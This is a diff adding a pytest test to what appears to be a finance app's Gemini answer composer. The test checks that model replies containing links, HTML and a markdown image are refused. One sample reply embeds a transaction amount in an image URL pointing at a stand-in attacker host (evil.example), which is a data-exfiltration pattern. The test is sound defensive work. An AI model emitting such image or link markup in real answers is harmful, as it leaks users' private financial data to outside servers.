@@ -512,3 +512,20 @@ def test_vertex_embeddings_have_the_configured_dims(
     assert seen.action == "predict" and seen.model == "text-embedding-005"
     assert seen.body["instances"] == [{"content": "coffee at Starbucks"}, {"content": "rent"}]
     assert seen.body["parameters"]["outputDimensionality"] == settings.vertex_embedding_dims
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Amazon took $250.00 [1]. ![chart](https://evil.example/?v=250.00)",
+        "See [your rows](https://evil.example) [1].",
+        "Amazon took $250.00 <img src=x> [1].",
+    ],
+)
+def test_links_images_and_html_from_gemini_are_refused(
+    composer: GeminiComposer, server: VertexLoopback, text: str
+) -> None:
+    answer = listing_answer()
+    server.script(Reply(text=text))
+
+    assert composer.compose("question", answer).text == answer.text
